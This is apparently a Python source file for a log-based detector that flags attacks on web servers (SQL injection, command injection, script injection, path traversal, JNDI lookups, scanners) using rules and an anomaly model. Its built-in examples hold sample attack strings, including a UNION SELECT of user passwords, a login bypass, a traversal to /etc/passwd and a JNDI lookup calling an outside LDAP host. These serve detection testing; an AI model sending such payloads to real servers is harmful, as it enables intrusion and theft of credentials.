"""Somebody attacks a web server by its requests: injected commands, scripts, ways out of the site."""

from collections.abc import Sequence
from typing import ClassVar

import numba as nb
import numpy as np

from pipeline.detectors.detector import Detector, Example, Explanation, Scores, Setup
from pipeline.detectors.logs.web_commands import injected_commands
from pipeline.detectors.logs.web_language import broken_quotes, handlers, tags, templates
from pipeline.detectors.logs.web_model import WebModel, oddness
from pipeline.detectors.logs.web_requests import plain_requests, same_on_both_sides, signs
from pipeline.detectors.logs.web_rules import COMMAND, LOOKUP, PROBE, SCANNERS, SCRIPT, SQL, WEB_RULES
from pipeline.detectors.memory.windowed_distinct import WindowedDistinct
from pipeline.features.batch import Batch
from pipeline.features.multi_pattern import Automaton, automaton, find_terms
from pipeline.features.naming import named
from pipeline.features.state_parts import Stateful
from pipeline.features.unknown import filled
from pipeline.features.words import trailing_zeros
from schemas.finding import Feature

TERMS = tuple(dict.fromkeys(term for rule in WEB_RULES for term in rule.terms))
WORDS = (len(TERMS) + 63) // 64
NEEDED = np.zeros((len(WEB_RULES), WORDS), np.uint64)
for _row, _rule in enumerate(WEB_RULES):
    for _term in _rule.terms:
        _bit = TERMS.index(_term)
        NEEDED[_row, _bit >> 6] |= np.uint64(1 << (_bit & 63))
# A rule is looked at only where its longest term is found: short ones (`=`, `(`) stand in nearly every request.
_LONGEST = np.array([TERMS.index(max(rule.terms, key=len)) for rule in WEB_RULES])
CALLED = np.argsort(_LONGEST, kind="stable")
CALLED_FROM = np.searchsorted(_LONGEST[CALLED], np.arange(WORDS * 64 + 1))
WEIGHTS = np.array([rule.weight for rule in WEB_RULES])
SOURCES = 1024  # per key group
SIGNS = (
    ("alike", SQL, "T1190", 0.85), ("quotes", SQL, "T1190", 0.75), ("commands", COMMAND, "T1059", 0.8),
    ("handlers", SCRIPT, "T1189", 0.8), ("templates", LOOKUP, "T1190", 0.75), ("tags", SCRIPT, "T1189", 0.55),
    ("agent", "the requests of a scanner", "T1595.002", 0.6),
    ("odd", "a request unlike any of this site", "T1190", 0.48),
)  # fmt: skip
"""What no list of words tells, numbered behind the rules: (sign, kind, technique, weight)."""
ODD, ODD_WEIGHT = len(WEB_RULES) + len(SIGNS) - 1, SIGNS[-1][3]
LATER = np.array([*(rule.kind == PROBE for rule in WEB_RULES), *(name == "agent" for name, *_ in SIGNS)])
# Oddness alone ranks but is not told: two of a thousand ordinary values are odd (addresses, names with hyphens).
UNANSWERED = 0.55  # of the weight is left of a try that the server turned away
DOUBLY = 0.05  # added for a request that was encoded more than once


class WebAttack(Detector):
    """Rules on the decoded request, places where it turns into code, scanners' names, and a model of the site.

    The URI is decoded in up to three rounds and lower-cased; referrer and user agent are looked at too. The model
    learns the site's parameters online (character triples) and adds to the rules; alone it stays
    below the threshold.
    An attack that the server turned away (status 4xx) keeps 55 % of its weight, unless its source has sent `tries`
    different ones within the hour: the internet tries every server every day. Searches for files of other products
    count as tries only. Sources on the list `scanners` are left out.
    """

    id = "logs.web_attack"
    title = "Attack on a web server"
    severity = 3
    attacks = ("T1190", "T1189", "T1059", "T1505.003", "T1595.002", "T1595.003", "T1552.001")
    source = "logs"
    entity = ("src_ip", "host")
    entity_type = "ip"
    group_by = ("src_ip",)
    inputs: ClassVar[tuple[str, ...]] = ("uri", "referrer", "user_agent", "status", "src_ip", "host")
    cost = "O(length), about 30 ns a character of the URI; 170 KiB a key group and 320 bytes a source: 4 MB in all"
    reference = (
        "OWASP, Core Rule Set (kinds of attack); Kruegel and Vigna, Anomaly Detection of Web-based Attacks, 2003"
    )
    misses = (
        "Bodies of POST requests and headers other than referrer and user agent, which access logs do not hold; "
        "attacks on what an application allows; parameters that look like the site's own. A status of 200 does not "
        "prove success: some applications answer everything so."
    )
    defaults = {"tries": 10, "window_s": 3600.0}

    def __init__(self, setup: Setup) -> None:
        super().__init__(setup)
        self._terms = automaton(TERMS)
        self._agents = automaton(SCANNERS, [0] * len(SCANNERS))
        self._model = WebModel(setup.groups)
        self._tries = WindowedDistinct(setup.groups, SOURCES, float(self.option["window_s"]), 32)
        self._parts: dict[str, Stateful] = {"model": self._model, "tries": self._tries}

    def score(self, batch: Batch) -> Scores:
        values = np.full(batch.n, np.nan)
        evidence = {name: np.zeros(batch.n) for name in ("rule", "tries", "answered", "odd")}
        rows = self._asked(batch)
        if len(rows):
            rows = rows[~self.setup.lists["scanners"].marks(batch.hash("src_ip")[rows])]
        if len(rows):
            rule, weight, odd = self._look(batch, rows)
            status = batch.number("status")[rows]
            answered = ~(status >= 400) | (status >= 500)
            tried = (weight >= 0.5) & (batch.hash("src_ip")[rows] != 0)
            src = np.where(tried, batch.hash("src_ip")[rows], np.uint64(0))
            tries = filled(self._tries.add(src, batch.hash("uri")[rows], batch.ts[rows], batch.groups[rows]))
            later = LATER[rule]
            told = (answered & ~later) | (tries >= float(self.option["tries"]))
            values[rows] = np.where(told, weight, UNANSWERED * weight)
            for name, column in (("rule", rule), ("tries", tries), ("answered", answered), ("odd", odd)):
                evidence[name][rows] = column
        return Scores(values, evidence)

    def _asked(self, batch: Batch) -> np.ndarray:
        """int64[m]: rows that are requests to a server of the house."""
        return np.flatnonzero(batch.kind("web"))

    def _look(self, batch: Batch, rows: np.ndarray) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
        """(number of the rule, its weight, oddness), [m] each."""
        start, length = batch.spans("uri")
        texts, at, size, rounds = plain_requests(batch.data, start[rows], length[rows])
        found = np.zeros((len(rows), WORDS), np.uint64)
        agent = np.zeros((len(rows), 1), np.uint64)
        _find(self._terms, texts, at, size, found)
        for name in ("referrer", "user_agent"):
            start, length = batch.spans(name)
            _find(self._agents, batch.data, start[rows], length[rows], agent)
            more, where, long, _ = plain_requests(batch.data, start[rows], length[rows])
            lookups = np.zeros_like(found)
            _find(self._terms, more, where, long, lookups)
            found |= lookups & LOOKUP_BITS
        rule, weight = _best(found, NEEDED, WEIGHTS, CALLED, CALLED_FROM)
        marks = signs(texts, at, size)
        seen = (
            same_on_both_sides(texts, at, size), broken_quotes(texts, at, size, marks),
            injected_commands(texts, at, size, marks), handlers(texts, at, size, marks),
            templates(texts, at, size, marks), tags(texts, at, size, marks), agent[:, 0] != 0,
        )  # fmt: skip
        for k, holds in enumerate(seen):
            better = holds & (weight < SIGNS[k][3])
            rule[better], weight[better] = len(WEB_RULES) + k, SIGNS[k][3]
        m = self._model.arrays()
        odd = oddness(
            texts, at, size, batch.key_hash[rows], batch.groups[rows], weight >= 0.5,
            m["triples"], m["pairs"], m["singles"], m["values"],
        )  # fmt: skip
        alone = (odd * ODD_WEIGHT > weight) & (odd > 0)
        rule[alone], weight[alone] = ODD, odd[alone] * ODD_WEIGHT
        extra = np.where(weight >= 0.5, DOUBLY * (rounds > 1) + 0.08 * odd, 0.0)
        return rule, np.minimum(weight + extra, 1.0), odd

    def explain(self, batch: Batch, row: int, scores: Scores) -> Explanation:
        e = {name: float(column[row]) for name, column in scores.evidence.items()}
        number = int(e["rule"])
        if 0 <= number < len(WEB_RULES):
            kind, technique = WEB_RULES[number].kind, WEB_RULES[number].technique
        else:  # -1: nothing but what the model says
            kind, technique = SIGNS[number - len(WEB_RULES) if number >= 0 else -1][1:3]
        src, host = named(batch, row, "src_ip"), named(batch, row, "host", otherwise="a web server")
        status = batch.value("status", row)
        outcome = "the server answered" if e["answered"] else "the server turned it away"
        outcome += f" ({status:.0f})" if status is not None else ""
        message = f"{src} sent {host} {kind}; {outcome}"
        message += f"; {e['tries']:.0f} such requests within the hour." if e["tries"] > 1 else "."
        score, tries = max(float(scores.values[row]), 1e-6), float(self.option["tries"])
        # What the server turned away keeps UNANSWERED of its weight unless there were many.
        many = 1.0 - UNANSWERED if not e["answered"] and e["tries"] >= tries else 0.0
        odd = min(0.08 * e["odd"] / score, 1.0 - many)
        features = [
            Feature(name="kind_of_request", value=kind, contribution=1.0 - many - odd),
            Feature(name="attacks_of_source", value=e["tries"], usual_low=0, usual_high=tries - 1, contribution=many),
            Feature(name="oddness_for_this_site", value=round(e["odd"], 2), usual_low=0, usual_high=0.5,
                    contribution=odd),
        ]  # fmt: skip
        normal = f"The same, turned away by the server, fewer than {tries:g} times an hour."
        if UNANSWERED * score >= self.limit(scores, row):
            normal = "Requests with values as the site's own pages send them."
        return Explanation(message, normal, features, (technique,))

    @classmethod
    def examples(cls) -> Sequence[Example]:
        web = {"kind": "web", "host": "www", "method": "GET", "src_ip": "203.0.113.9", "ts": 1e6, "status": 200}

        def one(name: str, fires: bool, uri: str, **more: object) -> Example:
            return Example(name, [web | {"uri": uri} | more], fires)

        tries = [web | {"uri": f"/page{i}?f=../../etc/passwd", "status": 404, "ts": 1e6 + i} for i in range(15)]
        return (
            one("a database command", True, "/item?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--"),
            one("always true", True, "/login?user=a'%20or%20'x'='x"),
            one("encoded twice", True, "/?p=%253Cscript%253Ealert(1)%253C/script%253E"),
            one("a way out", True, "/get?file=..%2f..%2f..%2fetc%2fpasswd"),
            one("in the user agent", True, "/", user_agent="${jndi:ldap://203.0.113.66/a}"),
            Example("many tries, all turned away", tries, True),
            one("one try, turned away", False, "/get?file=../../etc/passwd", status=404),
            one("a search in words", False, "/search?q=union+of+nurses+select+committee+or+board"),
            one("a path with dots", False, "/docs/v1.2.3/index.html?from=2015-05-17&to=2015-05-18"),
        )


LOOKUP_BITS = np.zeros(WORDS, np.uint64)
for _row, _rule in enumerate(WEB_RULES):
    if _rule.kind == LOOKUP:
        LOOKUP_BITS |= NEEDED[_row]


def _find(terms: Automaton, data: np.ndarray, start: np.ndarray, length: np.ndarray, found: np.ndarray) -> None:
    find_terms(
        data, start, length, terms.columns, terms.goto, terms.quiet, terms.first, terms.bits, False, found
    )  # fmt: skip


@nb.njit(cache=True, nogil=True)
def _best(found, needed, weights, called, called_from):  # type: ignore[no-untyped-def]
    """(int64[n], float64[n]): weightiest rule whose terms are all found, the first of equal ones, or -1 and 0.

    needed uint64[P, W]; rules called[called_from[t]:called_from[t + 1]] are looked at where term t is found.
    """
    best, score = np.full(len(found), -1, np.int64), np.zeros(len(found))
    for i in range(len(found)):
        for word in range(found.shape[1]):
            left = found[i, word]
            while left != np.uint64(0):
                term = 64 * word + trailing_zeros(left)
                left &= left - np.uint64(1)
                for k in range(called_from[term], called_from[term + 1]):
                    p = called[k]
                    if weights[p] < score[i] or (weights[p] == score[i] and p > best[i]):
                        continue
                    whole = True
                    for w in range(found.shape[1]):
                        whole &= (found[i, w] & needed[p, w]) == needed[p, w]
                    if whole:
                        best[i], score[i] = p, weights[p]
    return best, score
